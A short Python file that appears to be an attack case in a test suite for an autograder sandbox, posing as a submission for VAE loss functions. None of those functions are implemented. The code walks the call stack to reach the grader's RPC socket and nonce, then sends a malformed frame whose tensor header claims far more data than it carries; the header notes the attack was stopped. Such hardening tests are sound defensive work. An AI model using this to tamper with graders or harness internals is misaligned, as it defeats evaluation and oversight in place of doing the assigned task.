# stub: reconstruction_loss, kl_divergence, loss_function
# ends: crashed
# attack: a frame whose tensors point beyond their own bytes
# stopped-by: frame caps
import json
import os
import struct
import sys

from autograder.sandbox import wire

frame = sys._getframe()
while "rpc" not in frame.f_locals:
    frame = frame.f_back
header = json.dumps({"t0": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}).encode()
blob = struct.pack("<Q", len(header)) + header + b"x" * 64
seen = {"dtype": "float32", "shape": [2**40], "device": "cpu", "requires_grad": False, "plain": True, "ref": "t0"}
document = json.dumps({"$d": {"nonce": frame.f_locals["request"]["nonce"], "value": {"$t": seen}}}).encode()
os.write(frame.f_locals["rpc"].fileno(), wire.HEADER.pack(wire.MAGIC, len(document), len(blob)) + document + blob)
